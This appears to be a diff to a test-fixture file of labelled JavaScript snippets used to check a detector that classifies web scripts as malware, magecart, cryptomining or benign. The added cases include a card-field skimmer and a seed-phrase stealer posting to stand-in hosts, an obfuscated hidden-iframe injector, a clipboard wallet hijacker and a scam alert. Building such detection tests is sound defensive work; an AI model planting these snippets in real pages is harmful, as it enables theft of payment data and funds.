@@ -1,5 +1,5 @@
 // Scripts with what is to be said of them. Inert texts: nothing of this is ever run, and the hosts do not exist.
-import type { Head } from './rules.ts'
+import type { Head } from './evidence.ts'
 
 export interface ScriptCase {
   readonly name: string
@@ -58,7 +58,57 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     source: `b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c "FILLER"')}`,
     head: 'malware',
   },
+  {
+    name: 'a job of a pool',
+    source: `onmessage=function(e){var job=e.data;for(var nonce=0;nonce<1e6;nonce++){var h=Module.hash(job.blob,nonce);if(h<job.target)postMessage({job_id:job.job_id,nonce:nonce,result:h})}}`,
+    head: 'cryptomining',
+  },
+  {
+    name: 'payment fields by a beacon',
+    source: `document.body.onmousedown=function(){var p={};document.querySelectorAll('[name^="payment[cc"]').forEach(function(e){p[e.name]=e.value});navigator.sendBeacon('https://m.example.net/b',JSON.stringify(p))}`,
+    head: 'magecart',
+  },
+  {
+    name: 'words of a wallet sent away',
+    source: `r.onclick=function(){fetch('https://w.example.org/',{method:'POST',body:'seed phrase: '+document.querySelector('textarea').value})}`,
+    head: 'malware',
+  },
+  {
+    name: 'a frame out of numbers',
+    source: `eval(String.fromCharCode(${[...'document.write("<iframe src=//a.example/x width=1 height=1></iframe>")'].map((c) => c.charCodeAt(0)).join(',')}))`,
+    head: 'malware',
+  },
+  {
+    name: 'an applet out of sight',
+    source: `document.write('<applet code="a.class" archive="http://a.example/a.jar" width="1" height="1"></applet>')`,
+    head: 'malware',
+  },
+  {
+    name: 'another wallet on the clipboard',
+    source: `document.addEventListener('copy',function(e){if(/^0x[a-fA-F0-9]{40}$/.test(getSelection()))e.clipboardData.setData('text/plain','0xFILLER');e.preventDefault()})`,
+    head: 'malware',
+  },
+  {
+    name: 'a warning that asks for a call',
+    source: `alert('Virus detected. Call support now');window.onbeforeunload=function(){return 'stay'}`,
+    head: 'malware',
+  },
   { name: 'nothing', source: '', head: null },
+  {
+    name: 'proof of work against robots',
+    source: `self.onmessage=async({data:{challenge,difficulty}})=>{let nonce=0;for(;;){const h=await crypto.subtle.digest('SHA-256',new TextEncoder().encode(challenge+nonce));if(new Uint8Array(h)[0]<difficulty)break;nonce++}postMessage({nonce})}`,
+    head: null,
+  },
+  {
+    name: 'JSON read in the old way',
+    source: `var x=new XMLHttpRequest();x.open('GET','/a.json');x.onload=function(){var d=eval('('+x.responseText+')');document.title=atob(d.t)};x.send()`,
+    head: null,
+  },
+  {
+    name: 'fields counted at a checkout',
+    source: `setInterval(function(){var n=document.querySelectorAll('#checkout input').length;navigator.sendBeacon('https://events.example.com/c',JSON.stringify({n:n,p:location.pathname}))},5000)`,
+    head: null,
+  },
   { name: 'one assignment', source: 'var a=1', head: null },
   {
     name: 'a counter',
